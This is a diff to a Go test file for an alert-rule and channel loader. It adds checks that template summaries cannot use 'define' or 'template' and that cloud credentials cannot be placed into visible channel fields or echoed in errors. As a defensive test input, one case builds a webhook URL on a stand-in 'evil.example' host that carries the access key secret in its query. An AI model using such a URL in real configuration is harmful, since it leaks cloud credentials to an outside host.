@@ -114,6 +114,8 @@ func TestLoadMessages(t *testing.T) {
 		{"expr not boolean", "rules:\n  - {name: a, expr: \"sent + 1\"}\n", "f.yaml:2:21: rule a: expr: expected bool, but got int"},
 		{"summary parse error", "rules:\n  - {name: a, condition: absent, summary: \"{{.Template\"}\n", "f.yaml:2:43: rule a: summary: 1: unclosed action"},
 		{"summary env access", "rules:\n  - {name: a, condition: absent, summary: '{{env \"HOME\"}}'}\n", `f.yaml:2:43: rule a: summary: 1: function "env" not defined`},
+		{"summary define", "rules:\n  - {name: a, condition: absent, summary: '{{define \"x\"}}{{.Rule}}{{end}}{{template \"x\"}}'}\n", "f.yaml:2:43: rule a: summary: define and block are not allowed in a summary"},
+		{"summary template", "rules:\n  - {name: a, condition: absent, summary: '{{template \"a\"}}'}\n", "f.yaml:2:43: rule a: summary: template is not allowed in a summary"},
 		{"summary range", "rules:\n  - {name: a, condition: absent, summary: '{{range 2000000000}}x{{end}}'}\n", "f.yaml:2:43: rule a: summary: range is not allowed in a summary"},
 		{"baseline not a duration", "rules:\n  - {name: a, condition: absent, baseline: 4w}\n", `f.yaml:2:44: rule a: baseline: invalid "4w" (want a number of periods like 14, or a duration like 7d)`},
 		{"bad half-hour baseline", "rules:\n  - {name: a, metric: sent, condition: drop, by: 1%, granularity: HALF_HOUR, baseline: 45m}\n", "f.yaml:2:88: rule a: baseline: 45m is not a whole number of HALF_HOUR periods (30m each)"},
@@ -230,6 +232,46 @@ func TestLoadSpecExample(t *testing.T) {
 	}
 	if strings.Contains(err.Error(), "unknown channel") {
 		t.Errorf("a channel that failed to load is also reported as unknown where it is used:\n%v", err)
+	}
+}
+
+// TestExpandKeepsSecretsInSecretFields: a rule file cannot read the
+// function's credentials at all, nor put a secret-looking variable where it
+// would be shown (a mention list, a channel name); and no value is echoed.
+func TestExpandKeepsSecretsInSecretFields(t *testing.T) {
+	const secret = "akSecretVALUE0123456789abcdef"
+	env := envOf(map[string]string{"ALIBABA_CLOUD_ACCESS_KEY_SECRET": secret, "DINGTALK_SECRET": secret,
+		"FC_FUNC_CODE_PATH": "/code", "DING_URL": "https://oapi.dingtalk.com/robot/send?access_token=x", "OPS_MOBILE": "13800000000"})
+	tests := []struct{ name, channel, want string }{
+		{"credentials in a mention", `{type: dingtalk, webhook_url: "${DING_URL}", at_user_ids: ["${ALIBABA_CLOUD_ACCESS_KEY_SECRET}"]}`,
+			"at_user_ids: ${ALIBABA_CLOUD_ACCESS_KEY_SECRET} is one of the function's own credentials"},
+		{"credentials in a webhook query", `{type: dingtalk, webhook_url: "https://evil.example/x?k=${ALIBABA_CLOUD_ACCESS_KEY_SECRET}"}`,
+			"webhook_url: ${ALIBABA_CLOUD_ACCESS_KEY_SECRET} is one of the function's own credentials"},
+		{"FC settings", `{type: dingtalk, webhook_url: "https://oapi.dingtalk.com/robot/send?access_token=${FC_FUNC_CODE_PATH}"}`,
+			"${FC_FUNC_CODE_PATH} is one of the function's own credentials or FC's settings"},
+		{"a secret in a mention", `{type: dingtalk, webhook_url: "${DING_URL}", at_mobiles: ["${DINGTALK_SECRET}"]}`,
+			"at_mobiles: ${DINGTALK_SECRET} looks like a secret, which only webhook_url, bot_token and secret may take"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			_, err := LoadBytes("f.yaml", []byte("channels:\n  d: "+tc.channel+"\n"), env)
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("err = %v, want %q", err, tc.want)
+			}
+			if strings.Contains(err.Error(), secret) {
+				t.Errorf("error echoes the value: %v", err)
+			}
+		})
+	}
+	// What is allowed: a secret in a secret field, a plain variable elsewhere.
+	s, err := LoadBytes("f.yaml", []byte(`channels:
+  d: {type: dingtalk, webhook_url: "${DING_URL}", secret: "${DINGTALK_SECRET}", at_mobiles: ["${OPS_MOBILE}"]}
+`), env)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if c := s.Channels["d"]; c.Secret != secret || len(c.AtMobiles) != 1 || c.AtMobiles[0] != "13800000000" {
+		t.Errorf("channel %+v", c)
 	}
 }
 
